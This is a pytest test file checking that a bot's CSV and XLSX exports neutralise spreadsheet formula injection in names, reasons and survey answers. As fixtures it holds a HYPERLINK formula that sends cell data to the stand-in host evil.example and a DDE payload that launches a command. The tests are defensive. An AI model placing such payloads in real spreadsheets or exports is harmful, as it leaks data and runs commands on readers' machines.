"""Text people typed reaches CSV and XLSX exports as text, never as a live formula: names, reasons,
titles and free-text answers starting with = + - @ (or a tab or carriage return) are neutralised."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from bot.app.bootstrap import App
from bot.capabilities.attendance import exports as attendance_exports
from bot.capabilities.attendance.sheets import session_sheet
from bot.core.cells import FORMULA_STARTS, safe_cell
from bot.core.clock import SimulatedClock
from bot.core.inbound import Profile
from bot.core.models import Cohort, LiveSession, Person
from bot.core.people import upsert_profile
from tests.capabilities.attendance_helpers import at, click, cohort_with_session, run_until
from tests.capabilities.reports_fixture import build_fixture
from tests.capabilities.surveys_fixtures import cohort_with_learners, send_now
from tests.capabilities.test_reports_exports import run_cli
from tests.conftest import Chat

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_numbers_are_kept(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell("plain") == "plain"


def _csv_cells(directory: Path) -> list[str]:
    return [
        c for path in directory.rglob("*.csv") for row in csv.reader(path.open(encoding="utf-8")) for c in row
    ]


def _xlsx_cells(directory: Path) -> list[Any]:
    book = load_workbook(next(directory.glob("*.xlsx")))
    return [c for sheet in book for row in sheet.iter_rows() for c in row]


def _dangerous(cells: list[object]) -> list[object]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


async def test_attendance_sheet_csv(app: App, chat: Chat, clock: SimulatedClock, tmp_path: Path) -> None:
    async with app.store.transaction() as session:
        await upsert_profile(session, Profile("console", "", "zoe", "@SUM(1,1)"), clock.now())
    await cohort_with_session(chat, ("alice", "zoe"))
    await click(app, clock, "alice", at(7, 55))
    await run_until(app, clock, at(8, 30))
    assert "Excused" in await chat.say("tina", f"correct spoc zoe excused #1 {EVIL}")
    async with app.store.transaction() as session:
        cohort = (await session.exec(select(Cohort))).one()
        live = (await session.exec(select(LiveSession))).one()
        sheet = await session_sheet(session, cohort, live)
    csv_path, _ = attendance_exports.write_session(sheet, tmp_path, clock.now())
    cells = [c for row in csv.reader(csv_path.open(encoding="utf-8")) for c in row]
    assert "'@SUM(1,1)" in cells  # the name; the reason is quoted after "corrected from"
    assert _dangerous(cells) == []


async def test_report_csv_and_xlsx(chat: Chat, db_url: str, tmp_path: Path) -> None:
    fixture = await build_fixture(chat)
    async with chat.app.store.transaction() as session:
        ann = await session.get_one(Person, fixture.ids["ann"])
        ann.display_name = EVIL
        session.add(ann)
    for fmt in ("csv", "xlsx"):
        result = await run_cli(
            db_url, "export", "report", "--cohort", "spoc", "--format", fmt, "--out", str(tmp_path)
        )
        assert result.exit_code == 0, result.output
    cells = _csv_cells(tmp_path)
    assert f"'{EVIL}" in cells and _dangerous(cells) == []
    xlsx_cells = _xlsx_cells(tmp_path)
    assert [c.coordinate for c in xlsx_cells if c.data_type == "f"] == []  # no live formula
    assert f"'{EVIL}" in [c.value for c in xlsx_cells]


async def test_survey_results_csv(chat: Chat, tmp_path: Path) -> None:
    chat.app.settings.export_dir = str(tmp_path)
    await cohort_with_learners(chat)
    sid = str(await send_now(chat, 'new "Feedback" "text:Anything else?"'))
    await chat.press("alice", "surveys.answer", sid, {"q1": "+1 cmd|' /C calc'!A0"})
    await chat.say("tina", f"survey spoc export {sid}")
    cells = _csv_cells(tmp_path)
    assert "'+1 cmd|' /C calc'!A0" in cells and _dangerous(cells) == []
